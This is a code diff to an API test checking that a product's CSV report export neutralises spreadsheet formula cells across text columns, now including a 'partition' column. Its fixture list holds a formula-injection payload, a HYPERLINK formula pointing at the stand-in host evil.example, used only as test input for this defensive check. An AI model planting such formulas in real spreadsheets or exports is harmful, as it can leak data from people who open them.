@@ -11,6 +11,7 @@ import pyarrow as pa
 from shared.models import Run, RunStatus
 from shared.pipeline.finish import write_report
 from shared.pipeline.messages import RunMessage
+from shared.pipeline.report import write_part
 from shared.services import Services
 from tests.api.client import ADMIN, CONTRIBUTOR, VIEWER, ApiClient
 from tests.api.conftest import Emu, connection_body, export_body, export_id_of
@@ -125,13 +126,17 @@ FORMULA_CELLS = ['=HYPERLINK("http://evil.example/?x","open")', "+1+1", "-2+3", 
 async def test_the_report_the_product_writes_neutralises_formula_cells_in_every_text_column(
     api: ApiClient, dev: Services, emu: Emu, unique: str
 ) -> None:
-    # given a run whose report rows start like formulas in every text column (email, outcome, reason, segment)
+    # given a run whose report rows start like formulas in every text column (email, outcome, reason, segment,
+    # partition), written as the planner and finaliser write them: a report part, composed when the run ends
     await make_export(api, emu, unique)
     run_id = (await api.call("POST", f"exports/{unique}/runs", as_=ADMIN)).json()["id"]
     n = len(FORMULA_CELLS)
     text = pa.array(FORMULA_CELLS, pa.string())
-    rows = pa.table({"email": text, "outcome": text, "reason": text, "segment": text, "row": pa.array(range(1, n + 1))})
-    await write_report(dev, await export_id_of(dev, unique), run_id, rows)
+    columns = {"email": text, "outcome": text, "reason": text, "segment": text, "partition": text}
+    rows = pa.table({**columns, "row": pa.array(range(1, n + 1))})
+    export_id = await export_id_of(dev, unique)
+    await write_part(dev.runs_container, dev.runs.path(export_id, run_id, "plan/reports/test.arrow"), rows)
+    await write_report(dev, export_id, run_id, ["plan/reports/test.arrow"])
     await finish(dev, unique, run_id)
 
     # when a contributor downloads it and a CSV reader (a spreadsheet's import) reads it
@@ -141,7 +146,7 @@ async def test_the_report_the_product_writes_neutralises_formula_cells_in_every_
 
     # then each cell is the same text behind a single quote, still one cell (quoted), and "ok" is untouched
     expected = [("'" + v if v != "ok" else v) for v in FORMULA_CELLS]
-    for column in ("email", "outcome", "reason", "segment"):
+    for column in ("email", "outcome", "reason", "segment", "partition"):
         assert [r[column] for r in read] == expected, column
     assert [r["row"] for r in read] == [str(i) for i in range(1, n + 1)]
 
